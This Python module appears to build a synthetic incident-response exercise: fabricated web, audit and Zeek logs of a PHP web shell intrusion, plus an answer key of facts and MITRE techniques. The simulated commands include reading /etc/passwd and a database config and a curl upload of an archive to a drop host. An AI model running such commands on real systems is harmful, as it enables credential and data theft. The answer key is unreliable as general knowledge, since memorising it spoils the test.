"""A PHP web shell, a look around, an archive, and its way out, seen by the web server, the audit log and a sensor."""

from __future__ import annotations

import json
import random
from datetime import timedelta
from pathlib import Path

from .hosts import Host, audit_log, ordinary_life
from .making import Day, Scenario, Tree, make_truth

DAY = Day("2026-03-05")
ATTACKER, DROP = "203.0.113.140", "198.51.100.88"
PHP, WWW = "/usr/sbin/php-fpm8.1", ("www-data", 33)
CURL_AGENT, TOOL = "curl/7.81.0", "python-requests/2.31.0"


def _host() -> Host:
    host = Host("shop-01", "10.50.1.20")
    dice = random.Random(11)
    ordinary_life(host, DAY, dice, "08:00:00", "11:00:00", 120)
    host.boot(1188, PHP, "php-fpm: pool www")
    pid = 15000
    for time in DAY.spread(dice, "08:00:00", "11:00:00", 12):
        pid += 7
        # PHP's mail() starts a shell too; nothing is wrong with that.
        host.run(time, pid, 1188, "/usr/bin/dash", "sh|-c|/usr/sbin/sendmail -t -i", WWW)
        host.run(time + timedelta(milliseconds=20), pid + 1, pid, "/usr/sbin/sendmail", "/usr/sbin/sendmail -t -i", WWW)
    host.file(DAY.at("09:31:12.2"), 1188, "/var/www/html/uploads/avatar.php", WWW)
    steps = (
        ("09:31:40", "id", "/usr/bin/id"), ("09:31:52", "uname -a", "/usr/bin/uname"),
        ("09:32:20", "cat /etc/passwd", "/usr/bin/cat"), ("09:33:05", "ls -la /var/www/html", "/usr/bin/ls"),
        ("09:33:41", "cat /var/www/html/config/database.php", "/usr/bin/cat"),
        ("09:36:10", "tar czf /tmp/.site.tgz /var/www/html/data", "/usr/bin/tar"),
        ("09:38:02", f"curl -s -T /tmp/.site.tgz http://{DROP}:8081/", "/usr/bin/curl"), ("09:41:30", "rm -f /tmp/.site.tgz", "/usr/bin/rm"),
    )  # fmt: skip
    for n, (clock, command, exe) in enumerate(steps):
        shell = 23100 + 10 * n
        host.run(DAY.at(clock), shell, 1188, "/usr/bin/dash", f"sh|-c|{command}", WWW, "/var/www/html/uploads")
        host.run(
            DAY.at(clock) + timedelta(milliseconds=15), shell + 1, shell, exe, command, WWW, "/var/www/html/uploads"
        )
    host.file(DAY.at("09:36:10.4"), 23151, "/tmp/.site.tgz", WWW)
    host.connect(DAY.at("09:38:02.2"), 23161, DROP, 8081, WWW)
    host.file(DAY.at("09:41:30.1"), 23171, "/tmp/.site.tgz", WWW, "delete")
    return host


def _requests() -> list[tuple[str, str, str, int, str]]:
    shell = "/uploads/avatar.php"
    return [
        ("09:31:12", ATTACKER, "POST /profile/upload.php", 200, TOOL), ("09:31:40", ATTACKER, f"GET {shell}?cmd=id", 200, TOOL),
        ("09:31:52", ATTACKER, f"GET {shell}?cmd=uname%20-a", 200, TOOL), ("09:32:20", ATTACKER, f"GET {shell}?cmd=cat%20/etc/passwd", 200, TOOL),
        ("09:33:05", ATTACKER, f"GET {shell}?cmd=ls%20-la%20/var/www/html", 200, TOOL), ("09:33:41", ATTACKER, f"POST {shell}", 200, TOOL),
        ("09:36:10", ATTACKER, f"POST {shell}", 200, TOOL), ("09:38:02", ATTACKER, f"POST {shell}", 200, TOOL),
        ("09:41:30", ATTACKER, f"POST {shell}", 200, TOOL),
    ]  # fmt: skip


def _write(folder: Path) -> None:
    host, dice = _host(), random.Random(12)
    (folder / "audit.log").write_text(audit_log(host, node=True))
    browser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/121.0.0.0 Safari/537.36"
    visits = [(DAY.at(c), ip, r, s, a) for c, ip, r, s, a in _requests()]
    for time in DAY.spread(dice, "08:00:00", "11:00:00", 220):
        path = dice.choice(
            (
                "/",
                "/product.php?id=41",
                "/cart.php",
                "/img/logo.png",
                "/search.php?q=cmd+hooks",
                "/uploads/avatar_81.png",
            )
        )
        visits.append((time, f"192.0.2.{dice.randint(20, 220)}", f"GET {path}", 200, browser))
    log = (
        f'{ip} - - [{t:%d/%b/%Y:%H:%M:%S} +0000] "{r} HTTP/1.1" {s} {dice.randint(200, 8000)} "-" "{a}"\n'
        for t, ip, r, s, a in sorted(visits)
    )
    (folder / "access.log").write_text("".join(log))
    (folder / "zeek").mkdir()
    (folder / "zeek" / "conn.log").write_text(_lines(_conn(dice, visits)))
    (folder / "zeek" / "http.log").write_text(_lines(_http()))


def _conn(dice: random.Random, visits: list[tuple[object, ...]]) -> list[Tree]:
    rows = []
    for n, (time, ip, *_rest) in enumerate(sorted(visits)):  # type: ignore[type-var]
        rows.append(_flow(f"Cv{n:04d}", time.timestamp(), str(ip), "10.50.1.20", 80, 400, dice.randint(500, 9000)))  # type: ignore[attr-defined]
    for time in DAY.spread(dice, "08:00:00", "11:00:00", 60):
        rows.append(_flow(f"Cb{len(rows):04d}", time.timestamp(), "10.50.1.20", "10.50.0.2", 53, 60, 120))
    rows.append(_flow("CxDrop01", DAY.at("09:38:02.2").timestamp(), "10.50.1.20", DROP, 8081, 48_213_991, 812))
    return sorted(rows, key=lambda r: r["ts"])


def _flow(uid: str, ts: float, source: str, target: str, port: int, sent: int, got: int) -> Tree:
    return {"ts": ts, "uid": uid, "id.orig_h": source, "id.orig_p": 40000 + int(ts) % 20000, "id.resp_h": target, "id.resp_p": port, "proto": "tcp",
            "service": "dns" if port == 53 else "http", "duration": 1.5, "orig_bytes": sent, "resp_bytes": got, "conn_state": "SF", "orig_pkts": 9,
            "resp_pkts": 8, "history": "ShADadFf"}  # fmt: skip


def _http() -> list[Tree]:
    base = {"trans_depth": 1, "version": "1.1", "status_msg": "OK"}
    rows = []
    for n, (clock, ip, request, status, agent) in enumerate(_requests()):
        method, _, uri = request.partition(" ")
        rows.append({"ts": DAY.at(clock).timestamp(), "uid": f"Ca{n:03d}", "id.orig_h": ip, "id.orig_p": 50100 + n, "id.resp_h": "10.50.1.20",
                     "id.resp_p": 80, "method": method, "host": "shop.example.com", "uri": uri, "user_agent": agent, "request_body_len": 310,
                     "response_body_len": 500, "status_code": status} | base)  # fmt: skip
    rows.append({"ts": DAY.at("09:38:02.2").timestamp(), "uid": "CxDrop01", "id.orig_h": "10.50.1.20", "id.orig_p": 41882, "id.resp_h": DROP,
                 "id.resp_p": 8081, "method": "PUT", "host": f"{DROP}:8081", "uri": "/.site.tgz", "user_agent": CURL_AGENT,
                 "request_body_len": 48_213_700, "response_body_len": 0, "status_code": 201} | base)  # fmt: skip
    return rows


def _lines(rows: list[Tree]) -> str:
    return "".join(json.dumps(r) + "\n" for r in rows)


FACTS = (
    ("attacker", 3, (ATTACKER,)),
    ("host", 2, ("shop-01",)),
    ("shellfile", 3, ("avatar.php",)),
    ("upload", 2, (f"{ATTACKER} & upload.php",)),
    ("request", 2, (f"{ATTACKER} & avatar.php",)),
    ("php", 3, ("php-fpm & sh",)),
    ("account", 1, ("www-data", "uid 33")),
    ("id", 1, ("sh -c id", "id & sh", "uname")),
    ("passwd", 1, ("cat /etc/passwd",)),
    ("config", 2, ("database.php",)),
    ("archive", 3, ("tar & .site.tgz",)),
    ("sent", 3, (f"curl & {DROP}",)),
    ("bytes", 2, ("48213991", f"10.50.1.20 & {DROP} & 8081")),
    ("removed", 1, ("rm & .site.tgz", "deleted & .site.tgz")),
)
SCENARIOS = (
    Scenario("webshell", _write, make_truth(
        "webshell", FACTS, "upload shellfile php passwd config archive sent removed", "T1190 T1505.003 T1059.004 T1560.001 T1048 T1070.004",
        "T1041 T1071 T1082 T1033 T1087 T1016 T1083 T1003 T1552 T1552.001 T1571 T1105 T1074 T1074.001 T1567 T1005 T1132 T1070 T1030",
        ("2026-03-05T09:31:12Z", "2026-03-05T09:41:30Z"),
        ("sendmail", "10.50.0.2", "mkoch", "192.0.2.44", "10.40.9.10", "91.189.91.83", "logrotate"), ("/usr/sbin/sendmail", "10.50.1.20"),
    )),
)  # fmt: skip
